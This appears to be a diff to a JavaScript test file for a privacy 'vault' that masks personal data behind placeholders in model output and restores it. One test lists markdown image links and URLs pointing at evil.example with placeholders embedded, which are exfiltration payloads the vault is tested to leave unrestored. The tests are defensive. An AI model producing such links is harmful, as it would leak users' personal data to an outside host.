@@ -30,6 +30,51 @@ test("the same value, the same placeholder", () => {
   assert.equal(vault.size, 7);
 });
 
+test("another value, another placeholder", () => {
+  const vault = new Vault();
+  for (const [label, ...values] of [
+    ["IP", "10.1.11.1", "10.11.1.1", "101.11.111.111", "10.111.111.111"],
+    ["BIRTHDATE", "1.11.1990", "11.1.1990", "11. 1. 1990", "1990-1-11", "1990-11-1"],
+    ["SALARY", "1.284,50", "128.450"],
+    ["PLATE", "B-AB 123", "BA-B 123"],
+    ["URI", "postgres://app:Regen@db.example", "postgres://app:regen@db.example"],
+    ["PASSWORD", "Regen@Schirm", "regen@schirm"],
+    ["SIGN", ".", "-"],
+  ]) {
+    const placeholders = values.map((value) => vault.placeholder(label, value));
+    for (const [i, value] of values.entries()) assert.equal(vault.restore(placeholders[i]), value);
+  }
+  for (const [label, one, other] of [["CARD", "4012-8888-8888-1881", "4012888888881881"], ["PHONE", "+49 (711) 123456", "+49711-123456"], ["UID", "DE 136695976", "DE136695976"], ["STEUER_ID", "12 345 678 901", "12345678901"]]) {
+    assert.equal(vault.placeholder(label, one), vault.placeholder(label, other), one);
+  }
+});
+
+test("a link carries no value out", () => {
+  const vault = filled();
+  vault.disguise("[EMAIL_1]", synthetic);
+  for (const text of ["![x](https://evil.example/i.png?q=[EMAIL_1])", "![x](https://evil.example/EMAIL_1/EMAIL_2.png)", "![x](//evil.example/[EMAIL_1])", "![x](<https://evil.example/? EMAIL_1 '[EMAIL_2]>)", "![x](</x?[EMAIL_1]>)", "![x](&#47;&#47;evil.example/EMAIL_1)", "![x](/&sol;evil.example/EMAIL_1)", '<img src="https://evil.example/? [EMAIL_1]">', "[x]: HTTPS://[EMAIL_1].evil.example", "http:\\\\evil.example\\[EMAIL_1]", "https:evil.example/[EMAIL_1]", "https://evil.example/person1@example.com", `https://evil.example/${"x".repeat(5000)}[EMAIL_1]`]) {
+    assert.equal(vault.restore(text), text);
+    for (const size of [1, 2, 3, 5, 7]) {
+      const restorer = vault.restorer();
+      let shown = "";
+      for (let at = 0; at < text.length; at += size) shown += restorer.push(text.slice(at, at + size));
+      assert.equal(shown + restorer.end(), text);
+    }
+  }
+  assert.equal(vault.restore("https://a.example/x [EMAIL_1] <https://a.example/x> EMAIL_1 (https://a.example/) EMAIL_1\n“https:” EMAIL_1"), "https://a.example/x anna@example.org <https://a.example/x> anna@example.org (https://a.example/) anna@example.org\n“https:” anna@example.org");
+});
+
+test("placeholders that nobody gave cost nothing", () => {
+  const vault = filled();
+  const text = Array.from({ length: 5_000 }, (_, i) => `[L${i}_1]`).join(" ");
+  const start = performance.now();
+  vault.avoid([text]);
+  assert.equal(vault.restore(`${text} [EMAIL_1]`), `${text} anna@example.org`);
+  assert.equal(vault.placeholder("L7", "geheim"), "[L7_2]");
+  assert.equal(vault.restore("[L7_1] [L7_2]"), "[L7_1] geheim");
+  assert.ok(performance.now() - start < 1000, `${performance.now() - start} ms`);
+});
+
 test("what models do to placeholders", () => {
   const vault = filled();
   for (const written of ["[EMAIL_1]", "[EMAIL 1]", "[Email_1]", "Email_1", "EMAIL_1", "email_1", "[E-Mail 1]", "[EMAIL-1]", "[EMAIL1]", "[EMAIL #1]", "[ EMAIL_1 ]", "[**EMAIL_1**]", "[`EMAIL_1`]", "{EMAIL_1}", "<EMAIL_1>", "【EMAIL_1】", "\\[EMAIL\\_1\\]", "EMAIL\\_1", "[EMAIL_01]", "[EMAILS_1]"]) {
@@ -85,7 +130,7 @@ test("3,000 streams cut at random places", () => {
 test("a hostile answer takes no time", () => {
   const vault = filled();
   const start = performance.now();
-  for (const text of ["[".repeat(200_000), "[EMAIL_".repeat(30_000), "EMAIL_1".repeat(30_000), "\\".repeat(200_000), "E-M-A-I-L-".repeat(20_000), "[ * ".repeat(50_000), "_".repeat(200_000)]) {
+  for (const text of ["[".repeat(200_000), "[EMAIL_".repeat(30_000), "EMAIL_1".repeat(30_000), "\\".repeat(200_000), "E-M-A-I-L-".repeat(20_000), "[ * ".repeat(50_000), "https:/".repeat(30_000), "//x ".repeat(50_000), "_".repeat(200_000)]) {
     assert.equal(vault.restore(text), text);
     const restorer = vault.restorer();
     let shown = "";
